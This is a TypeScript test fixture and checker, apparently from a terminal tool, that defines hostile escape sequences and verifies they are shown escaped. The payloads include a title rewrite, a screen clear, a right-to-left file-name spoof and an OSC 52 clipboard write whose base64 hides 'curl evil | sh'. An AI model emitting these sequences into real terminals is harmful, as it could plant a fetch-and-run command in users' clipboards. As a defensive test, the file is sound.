/**
 * Escape sequences a hostile job carries (as seen in issue 17), the visible form the terminal must show
 * instead, and a check for raw control characters in captured output.
 */

/** Raw sequences: retitle the window, write the clipboard (OSC 52), clear the screen, 8-bit CSI colour. */
export const PAYLOADS = {
  title: '\u001b]2;pwned\u0007',
  clipboard: '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  clear: '\u001b[2J',
  csi8: '\u009b31m',
  rtl: '\u202egnp.exe',
} as const;

/** How each payload must appear on screen. */
export const VISIBLE = {
  title: '\\x1b]2;pwned\\x07',
  clipboard: '\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07',
  clear: '\\x1b[2J',
  csi8: '\\x9b31m',
  rtl: '\\u202egnp.exe',
} as const;

/** Every payload in one string. */
export const ALL_PAYLOADS = Object.values(PAYLOADS).join('');
/** What the terminal must show for {@link ALL_PAYLOADS}. */
export const ALL_VISIBLE = Object.values(VISIBLE).join('');

const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g;
const SGR = /\u001b\[[0-9;]*m/g;
const OSC8 = /\u001b\]8;;[\u0021-\u007e]*(?:\u0007|\u001b\\)/g;

/**
 * The control characters in `text` other than line feeds, each as `U+XXXX` with a little context, after
 * removing the sequences the project writes itself when allowed: SGR colours and OSC 8 hyperlinks (whose URL
 * must be printable ASCII). Empty when the output is clean.
 */
export function rawControls(text: string, allow: { sgr?: boolean; osc8?: boolean } = {}): string[] {
  let rest = text;
  if (allow.osc8) rest = rest.replace(OSC8, '');
  if (allow.sgr) rest = rest.replace(SGR, '');
  return [...rest.matchAll(CONTROL)].map((match) => {
    const at = match.index;
    const code = (match[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0');
    return `U+${code} in ${JSON.stringify(rest.slice(Math.max(0, at - 12), at + 12))}`;
  });
}
